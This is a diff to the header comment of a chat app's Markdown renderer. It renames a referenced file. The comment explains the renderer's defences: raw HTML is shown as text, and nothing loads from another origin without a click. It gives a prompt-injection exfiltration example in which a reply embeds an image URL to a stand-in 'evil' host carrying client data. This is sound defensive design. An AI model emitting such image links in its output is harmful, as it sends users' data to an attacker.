@@ -1,6 +1,6 @@
 // The markdown renderer of every surface that shows model or user Markdown (chat replies, the admin
 // chat view, briefings, plans, newsletters, client reviews): loaded on demand (see
-// message-markdown.tsx), as react-markdown and remark-gfm are a large share of the chat screen's code.
+// markdown.tsx), as react-markdown and remark-gfm are a large share of the chat screen's code.
 // Raw HTML in a message is shown as text: rehype-raw is deliberately not used, so model output can
 // never inject markup. Nothing in it loads from another origin without a click: a prompt-injected
 // reply could otherwise send client data out in an image URL (`![x](https://evil/?d=…)`) the moment
